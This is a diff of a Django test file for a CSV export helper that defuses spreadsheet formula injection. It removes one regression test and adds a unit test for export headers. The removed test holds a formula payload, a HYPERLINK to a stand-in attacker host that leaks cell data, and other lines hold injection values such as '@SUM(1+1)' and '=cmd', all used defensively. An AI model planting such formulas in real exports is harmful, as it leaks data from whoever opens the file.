@@ -3,11 +3,7 @@
 import csv
 import io
 
-from django.urls import reverse
-
 from distans.core.exports import neutralise
-from distans.equipment.models import ItemType
-from distans.equipment.services import loan_create
 
 
 def test_formula_cells_get_a_leading_quote_and_plain_values_stay():
@@ -15,25 +11,6 @@ def test_formula_cells_get_a_leading_quote_and_plain_values_stay():
         assert neutralise(cell) == "'" + cell
     for cell in ("Åsa Öberg", "", "2026-12-07", "a=b", 7, -3, None):
         assert neutralise(cell) == cell
-
-
-def test_the_loans_export_writes_names_and_serials_as_text(client, cast):
-    """Regression: a name like =HYPERLINK(…) went into the CSV as a live formula."""
-    asa = cast["employee"]
-    asa.first_name, asa.last_name = '=HYPERLINK("http://evil.example/?"&A1', '"Click")'
-    asa.save()
-    loan_create(actor=cast["hr"], person=asa, item_type=ItemType.objects.get(key="laptop"),
-                serial_number="@SUM(1+1)")
-    loan_create(actor=cast["hr"], person=cast["manager"],
-                item_type=ItemType.objects.get(key="mobile-phone"), serial_number="+46-cmd")
-    client.force_login(cast["hr"])
-    response = client.get(reverse("equipment:loans"), {"format": "csv"})
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
-    cells = [cell for row in rows[1:] for cell in row]
-    assert "'@SUM(1+1)" in cells and "'+46-cmd" in cells
-    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
-    assert "Björn Ekström" in cells, "ordinary names are untouched"
 
 
 def test_decimals_carry_the_readers_decimal_sign_in_every_export():
@@ -45,3 +22,14 @@ def test_decimals_carry_the_readers_decimal_sign_in_every_export():
         assert neutralise(Decimal("2.5")) == "2,5" and neutralise(Decimal("-0.5")) == "-0,5"
     with translation.override("en"):
         assert neutralise(Decimal("2.5")) == "2.5"
+
+
+def test_an_export_is_an_attachment_with_the_header_first_and_safe_cells():
+    from distans.core.exports import csv_export
+
+    response = csv_export("people.csv", ["Name", "Unit"], iter([["=cmd", "Support"], ["Åsa", None]]))
+    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff"), "the byte-order mark Excel needs for Nordic letters"
+    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
+    assert rows == [["Name", "Unit"], ["'=cmd", "Support"], ["Åsa", ""]]
